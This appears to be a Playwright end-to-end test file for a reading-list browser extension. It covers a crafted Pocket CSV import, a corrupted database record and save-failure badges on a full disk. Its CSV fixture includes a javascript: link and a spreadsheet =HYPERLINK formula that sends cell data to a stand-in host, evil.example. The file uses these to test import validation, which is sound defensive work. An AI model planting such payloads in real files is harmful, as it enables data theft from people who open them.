// Issue 11 end to end: a crafted import file through the Options page, a damaged stored record in the library, and the
// toolbar badge after a save from the context menu (the same handler) into a full disk.
import type { Worker } from '@playwright/test';
import { expect, test } from './fixtures';
import { tabIdOf, waitForHighlights } from './page-helpers';

const TITLE = 'US pressures Baghdad over Iran-backed militias';

/** A Pocket CSV with good rows and hostile ones: a date past year 275760, a javascript: link, a formula title. */
const CRAFTED_CSV = [
  'title,url,time_added,tags,status',
  'A good one,https://good.example/1,1546300800,news,unread',
  'From the far future,https://future.example/x,9999999999999999,,unread',
  'Click me,javascript:alert(1),1546300800,,unread',
  '"=HYPERLINK(""https://evil.example/?d=""&B3,""Open"")",https://formula.example/2,1546387200,,archive',
  'Another good one,https://good.example/3,1546473600,,read',
].join('\r\n');

async function badgeOf(worker: Worker, tabId: number): Promise<{ text: string; title: string }> {
  return worker.evaluate(async (id) => ({
    text: await (globalThis as any).chrome.action.getBadgeText({ tabId: id }),
    title: await (globalThis as any).chrome.action.getTitle({ tabId: id }),
  }), tabId);
}

test('a crafted Pocket file: the preview reports the bad rows, the import writes the good ones, and the library renders', async ({ context, extensionId }) => {
  const options = await context.newPage();
  await options.goto(`chrome-extension://${extensionId}/options.html`);
  await options.getByLabel('Import file').setInputFiles({ name: 'pocket.csv', mimeType: 'text/csv', buffer: Buffer.from(CRAFTED_CSV) });
  const preview = options.getByRole('region', { name: 'Import preview' });
  await expect(preview).toContainText('3 articles; 2 skipped');
  await expect(preview.getByRole('listitem')).toHaveText([/^row 3: date added .* out of range$/, /^row 4: url: not an http\(s\) URL/]);

  const library = await context.newPage();
  await library.goto(`chrome-extension://${extensionId}/library.html`);
  await expect(library.getByText('Your reading list is empty', { exact: false })).toBeVisible(); // nothing written yet

  await preview.getByRole('button', { name: 'Import 3 articles' }).click();
  await expect(options.getByText('Imported 3 new and updated 0 articles from Pocket. 2 skipped (below).')).toBeVisible();
  await library.reload();
  await expect(library.getByRole('listitem', { name: 'A good one' })).toBeVisible();
  await library.getByLabel('Show archived').check();
  await expect(library.getByRole('listitem', { name: '=HYPERLINK("https://evil.example/?d="&B3,"Open")' })).toBeVisible();
  await expect(library.getByText('From the far future')).toHaveCount(0);
  await expect(library.getByRole('alert')).toHaveCount(0);
});

test('a damaged stored record shows as "cannot be shown" with Delete, and the rest of the library renders', async ({ context, extensionId, serviceWorker }) => {
  await serviceWorker.evaluate(async () => {
    const d = (globalThis as unknown as { dramatis: { db: { articles: { add(r: object): Promise<number> } } } }).dramatis;
    const base = { host: 'ok.example', byline: null, site: 'ok.example', published: null, excerpt: '', text: '', analysis: null, anonymousShare: 0, reliesOnAnonymous: 0, read: 0, readAt: null, archived: 0, tags: [], words: [], actorKeys: [], actorCards: {}, publishedAt: 0 };
    await d.db.articles.add({ ...base, url: 'https://ok.example/fine', title: 'A fine article', sortTitle: 'a fine article', savedAt: Date.UTC(2026, 0, 2), updatedAt: 0, counts: { actors: 0, claims: 0, anonymous: 0 } });
    // As a damaged database could hold it: no counts, no tags, a date no Date can hold.
    await d.db.articles.add({ ...base, url: 'https://ok.example/broken', title: 'Broken', sortTitle: 'broken', savedAt: 8.64e15 + 1, updatedAt: 0, tags: undefined, counts: undefined });
  });
  const library = await context.newPage();
  await library.goto(`chrome-extension://${extensionId}/library.html`);
  await expect(library.getByRole('listitem', { name: 'A fine article' })).toBeVisible();
  const broken = library.getByRole('listitem', { name: 'A saved article that cannot be shown' });
  await expect(broken).toContainText('cannot be shown');
  await broken.getByRole('button', { name: 'Delete it' }).click();
  await expect(broken).toHaveCount(0);
  await expect(library.getByRole('listitem', { name: 'A fine article' })).toBeVisible();
});

test('a save from the context menu shows a check mark on the toolbar icon; into a full disk, "!" and why, in the popup too', async ({ context, serviceWorker, siteURL, extensionId }) => {
  const page = await context.newPage();
  const url = `${siteURL}/article.html`;
  await page.goto(url);
  await waitForHighlights(page);
  const tabId = await tabIdOf(serviceWorker, url);
  const save = (id: number) =>
    serviceWorker.evaluate(async (t) => {
      const d = (globalThis as unknown as { dramatis: { saveWithFeedback(id: number): Promise<{ ok: boolean; message: string }> } }).dramatis;
      return d.saveWithFeedback(t);
    }, id);

  expect(await save(tabId)).toMatchObject({ ok: true });
  expect(await badgeOf(serviceWorker, tabId)).toEqual({ text: '✓', title: 'Dramatis: Saved to your reading list.' });

  // Every write now fails as a full disk does.
  await serviceWorker.evaluate(async () => {
    const d = (globalThis as unknown as { dramatis: { db: any } }).dramatis;
    d.db.close();
    d.db.use({
      stack: 'dbcore',
      name: 'full-disk',
      create: (down: any) => ({
        ...down,
        table: (name: string) => {
          const t = down.table(name);
          return { ...t, mutate: () => Promise.reject(new DOMException('The quota has been exceeded.', 'QuotaExceededError')) };
        },
      }),
    });
    await d.db.open();
  });
  expect(await save(tabId)).toMatchObject({ ok: false, message: expect.stringMatching(/storage is full/) });
  const badge = await badgeOf(serviceWorker, tabId);
  expect(badge.text).toBe('!');
  expect(badge.title).toMatch(/^Dramatis: Not saved: storage is full\. .*delete or export old articles/);
  // The popup can read why (get-last-save).
  const last = await serviceWorker.evaluate(async (t) => {
    const d = (globalThis as unknown as { dramatis: { handlers: { lastSave(id: number): Promise<{ ok: boolean; message: string } | null> } } }).dramatis;
    return d.handlers.lastSave(t);
  }, tabId);
  expect(last).toMatchObject({ ok: false, message: expect.stringMatching(/storage is full/) });
  // ... and the popup, opened on that tab, says it in words.
  const popup = await context.newPage();
  await popup.goto(`chrome-extension://${extensionId}/popup.html?tab=${tabId}`);
  await expect(popup.getByText(/^Not saved: storage is full\./)).toBeVisible();
});
